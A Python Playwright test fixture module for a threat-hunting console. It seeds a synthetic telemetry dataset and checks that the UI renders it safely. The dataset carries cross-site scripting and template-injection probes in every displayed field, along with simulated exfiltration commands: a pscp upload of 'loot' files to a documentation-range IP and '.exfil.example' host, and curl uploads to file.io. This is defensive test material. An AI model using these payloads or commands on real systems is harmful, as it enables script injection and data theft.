"""Browser tests: Playwright drives Debian's Chromium (/usr/bin/chromium, scripts/_browser.sh) against the real
app served over HTTP, mounted both at / and under the console's app-proxy prefix (DispatcherMiddleware, as the
console proxies it), with a real Runtime that hunted a small dataset in the stand-in and raised its offenses.

The dataset puts script and markup probes in every telemetry field an analyst sees (user, command line, parent
image and command line, process GUID, destination host name, DNS query), next to ordinary hits to filter."""
from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest
from werkzeug.middleware.dispatcher import DispatcherMiddleware
from werkzeug.serving import make_server

from app import create_app
from devtools.appenv import app_runtime, hunt_all
from devtools.demo import raise_offenses
from devtools.simproc import SimProcess, write_events

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOTS = ROOT / "docs" / "screenshots"
PREFIX = "/console/plugins/1101/app_proxy"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SECRET = "Hunter2Secret!"
PROBES = {
    "command": '<script>window.__pwned="cmd"</script>',
    "image": '<img src=x onerror="window.__pwned=\'img\'">',
    "svg": '"><svg onload="window.__pwned=\'svg\'">',
    "user": '<img src=x onerror=alert(1)>',
    "template": "{{7*7}}${7*7}<b>bold</b>",
}
MINUTE = 60_000


def _event(t, ip, user, event_id, *, image=None, command=None, guid, parent=None, parent_command=None,
           destination_ip=None, port=0, destination_host=None, query=None, qid=5001828):
    event = {"starttime": t, "endtime": t, "devicetime": t, "logsourceid": 1121, "devicetype": 12,
             "category": 8110, "highlevelcategory": 8000, "qid": qid, "username": user, "sourceip": ip,
             "destinationip": destination_ip or ip, "sourceport": 0, "destinationport": port, "protocolid": 6,
             "eventcount": 1, "magnitude": 3, "severity": 1, "credibility": 5, "relevance": 5, "domainid": 0,
             "EventID": event_id, "ProcessGuid": guid}
    payload = f"EventID={event_id} ProcessGuid: {guid} User: {user}"
    for key, value in (("Process Name", image), ("CommandLine", command), ("ParentImage", parent),
                       ("ParentCommandLine", parent_command), ("OriginalFileName", image),
                       ("DestinationHostname", destination_host), ("QueryName", query)):
        if value is not None:
            event[key] = value
            payload += f" {key}: {value}"
    event["payload"] = payload
    return event


def dataset(now_ms: int) -> list[dict]:
    t = now_ms - 60 * MINUTE
    hostile_user = f"CORP\\{PROBES['user']}"
    hostile_guid = "{" + PROBES["svg"] + "-0001}"
    events = [
        # The hostile one: pscp with a password, probes everywhere an analyst looks.
        _event(t, "10.9.9.9", hostile_user, "1", image="pscp.exe", guid=hostile_guid,
               command=f"pscp.exe -pw {SECRET} C:\\loot\\{PROBES['image']}.zip exfil@203.0.113.50:/in/{PROBES['command']} {PROBES['template']}",
               parent=f"C:\\{PROBES['svg']}\\cmd.exe", parent_command=f"cmd.exe /c \"{PROBES['command']}\""),
        _event(t + 2000, "10.9.9.9", hostile_user, "3", image="pscp.exe", guid=hostile_guid, qid=5001829,
               destination_ip="203.0.113.50", port=22, destination_host=f"{PROBES['image']}.exfil.example"),
        _event(t + 3000, "10.9.9.9", hostile_user, "22", image="pscp.exe", guid=hostile_guid, qid=5001830,
               query=f"{PROBES['svg']}.exfil.example"),
    ]
    # Ordinary hits to filter: curl uploads and WinSCP from three hosts.
    for n in range(12):
        ip, user = (("10.9.9.10", "CORP\\bob"), ("10.9.9.11", "CORP\\carol"), ("10.9.9.12", "CORP\\dave"))[n % 3]
        if n % 2:
            command = f'curl.exe -k -F "file=@C:\\data\\report{n}.zip" https://file.io/'
            image = "curl.exe"
        else:
            command = f'pscp.exe -P 22 -pw pw{n} C:\\data\\r{n}.zip drop@198.51.100.{n + 1}:/in/'
            image = "pscp.exe"
        events.append(_event(t + (n + 5) * MINUTE, ip, user, "1", image=image, command=command,
                             guid="{0000%04d-0000-0000-0000-000000000000}" % n, parent="C:\\Windows\\explorer.exe"))
    return events


class Served:
    def __init__(self, runtime, sim, server):
        self.runtime, self.sim, self.server = runtime, sim, server

    @property
    def root(self):
        return f"http://127.0.0.1:{self.server.server_port}/"

    @property
    def proxied(self):
        return f"http://127.0.0.1:{self.server.server_port}{PREFIX}/"


@pytest.fixture(scope="session")
def served(tmp_path_factory):
    directory = tmp_path_factory.mktemp("browser")
    now = int(time.time() * 1000)
    events = dataset(now)
    path = write_events(directory / "events.jsonl", events)
    with SimProcess(events=path, profile="seed", latency_ms=0) as sim:
        runtime = app_runtime(sim, str(directory / "app"), initial_wait_s=0.02, poll_wait_s=2)
        hunt_all(runtime, min(e["starttime"] for e in events), max(e["starttime"] for e in events) + 1)
        raise_offenses(runtime, sim, deadline_s=30)
        flask_app = create_app(runtime)
        # The same app at / (the demo) and under the console's app-proxy prefix.
        server = make_server("127.0.0.1", 0, DispatcherMiddleware(flask_app, {PREFIX: flask_app}), threaded=True)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield Served(runtime, sim, server)
        finally:
            server.shutdown()
            runtime.store.close()


@pytest.fixture(scope="session")
def browser():
    from playwright.sync_api import sync_playwright
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: scripts/test installs it (scripts/_browser.sh)")
    with sync_playwright() as playwright:
        instance = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield instance
        instance.close()


class PageWatch:
    """A page with what went wrong on it: dialogs (a probe that ran), page errors, CSP violations, HTTP errors."""
    def __init__(self, page):
        self.page, self.dialogs, self.errors, self.http_errors = page, [], [], []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        page.on("response", lambda r: self.http_errors.append(f"{r.status} {r.url}") if r.status >= 400 else None)

    def open(self, url, view):
        self.page.goto(url)
        return self.wait(view)

    def wait(self, view):
        self.page.wait_for_selector(f'body[data-ready="{view}"]')
        return self.page

    def forget_errors(self):
        """After a request the test meant to fail (the browser logs its 4xx)."""
        self.errors.clear()
        self.http_errors.clear()

    def assert_clean(self):
        assert self.dialogs == [], self.dialogs
        assert self.page.evaluate("window.__pwned === undefined"), self.page.evaluate("window.__pwned")
        assert self.errors == [], self.errors
        assert self.http_errors == [], self.http_errors


@pytest.fixture
def watch(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    page = context.new_page()
    yield PageWatch(page)
    context.close()


def screenshot(page, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)


def hit_ids(runtime, **where) -> list[int]:
    return [h["id"] for h in runtime.store.hits.list(limit=10_000, suppressed=None)
            if all(h.get(k) == v for k, v in where.items())]


__all__ = ["PREFIX", "PROBES", "SECRET", "screenshot", "hit_ids", "json"]
